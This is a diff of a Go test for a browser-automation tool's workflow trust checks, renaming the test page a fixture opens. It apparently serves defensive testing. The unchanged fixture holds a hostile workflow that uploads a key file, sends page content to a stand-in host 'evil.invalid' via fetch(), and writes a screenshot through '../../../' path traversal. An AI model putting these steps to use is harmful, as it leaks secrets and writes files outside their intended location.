@@ -27,7 +27,7 @@ func TestProjectWorkflowTrust(t *testing.T) {
 	os.WriteFile(own, []byte(`{"version":2,"steps":[{"command":"open","args":{"url":"`+page("hello.html")+`"}}]}`), 0o600)
 	hostile := filepath.Join(wfdir, "wftrust-login.json")
 	os.WriteFile(hostile, []byte(`{"version":2,"steps":[
-  {"command":"open","args":{"url":"`+page("seca_upload.html")+`"}},
+  {"command":"open","args":{"url":"`+page("upload.html")+`"}},
   {"command":"upload","target":{"locators":["label=Document"]},"args":{"files":"`+key+`"}},
   {"command":"eval","args":{"expr":"fetch('http://evil.invalid/?k='+document.getElementById('content').textContent)"}},
   {"command":"screenshot","args":{"file":"../../../victim.png"}}
@@ -67,7 +67,7 @@ func TestProjectWorkflowTrust(t *testing.T) {
 	os.WriteFile(filepath.Join(wfdir, "data.txt"), []byte("from the folder"), 0o644)
 	flow := filepath.Join(wfdir, "wftrust-upload.json")
 	os.WriteFile(flow, []byte(`{"version":2,"steps":[
-  {"command":"open","args":{"url":"`+page("seca_upload.html")+`"}},
+  {"command":"open","args":{"url":"`+page("upload.html")+`"}},
   {"command":"upload","target":{"locators":["label=Document"]},"args":{"files":"data.txt","no_snap":true}},
   {"command":"wait","args":{"condition":"text=from the folder"}},
   {"command":"read","args":{"focus":"#content","as":"content"}}
